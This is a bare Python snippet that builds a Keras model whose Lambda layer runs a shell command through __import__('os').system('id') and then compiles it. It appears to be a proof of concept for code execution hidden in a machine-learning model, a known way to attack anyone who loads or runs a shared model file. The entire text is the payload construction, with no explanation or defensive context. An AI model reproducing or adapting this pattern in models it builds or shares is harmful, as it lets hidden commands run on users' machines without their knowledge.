model = keras.Sequential([keras.layers.Input((4,)), keras.layers.Lambda(lambda x: __import__('os').system('id'))])
model.compile('adam', 'mse')
